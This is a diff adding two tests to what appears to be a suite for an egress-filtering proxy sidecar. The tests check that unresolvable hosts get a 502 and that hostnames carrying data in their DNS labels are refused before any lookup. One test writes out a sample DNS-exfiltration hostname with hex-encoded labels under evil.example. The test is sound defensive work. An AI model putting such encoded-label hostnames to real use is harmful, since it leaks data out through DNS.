@@ -114,3 +114,24 @@ def test_international_spellings_are_judged_as_the_name_they_resolve_as(make_sid
     assert status == 403
     assert b"POLICY:no-paste" in body
     assert upstream.requests_to("/allow/idn") == []
+
+
+def test_a_name_that_does_not_resolve_is_said_so(make_sidecar):
+    dns = ScriptedDns()
+    sidecar = make_sidecar(resolver=dns.resolver())
+    status, body = _get(sidecar, "http://nowhere.example/allow/x", "nowhere.example")
+    assert status == 502
+    assert b"DESTINATION_UNRESOLVABLE" in body
+
+
+def test_a_name_carrying_data_is_never_looked_up(make_sidecar, scan_api):
+    """The scan API double allows everything: the sidecar's own destination rules still
+    refuse data in DNS labels, before its resolver is asked (a lookup would leak it)."""
+    dns = ScriptedDns()
+    sidecar = make_sidecar(resolver=dns.resolver())
+    host = "4141414b4951583452585a54374e4d32.3f9a1c7e2b5d8046.evil.example"
+    status, body = _get(sidecar, f"http://{host}/allow/dns", host)
+    assert status == 403, body
+    assert b"DNS_EXFILTRATION" in body
+    assert scan_api.scans.items  # the request was judged by the scan API (ALLOW) ...
+    assert dns.lookups == []  # ... and still never looked up
